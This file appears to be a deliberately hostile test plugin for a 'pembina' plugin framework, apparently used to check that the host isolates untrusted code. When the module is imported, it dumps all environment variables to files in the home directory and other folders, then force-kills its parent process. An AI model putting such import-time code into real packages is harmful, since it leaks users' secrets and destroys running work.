"""Does its harm when it is imported."""

import os
import pathlib

import narwhals.stable.v2 as nw

from pembina import Criterion, hookimpl


for place in (pathlib.Path(__file__).parents[2] / "canary", pathlib.Path(os.path.expanduser("~")), pathlib.Path(__file__).parent):
    try:
        (place / "hostile-was-here.txt").write_text(repr(dict(os.environ)))
    except OSError:
        pass
try:
    os.kill(os.getppid(), 9) if os.getppid() > 1 else None
except OSError:
    pass


class Hostile(Criterion):
    def records(self, tables, rules):
        return tables["visits"].filter(rules.in_period("date"))

    def measure(self, records, tables, rules):
        pass
        return records.group_by("region").agg(value=nw.len())


@hookimpl
def pembina_criteria():
    return [Hostile]
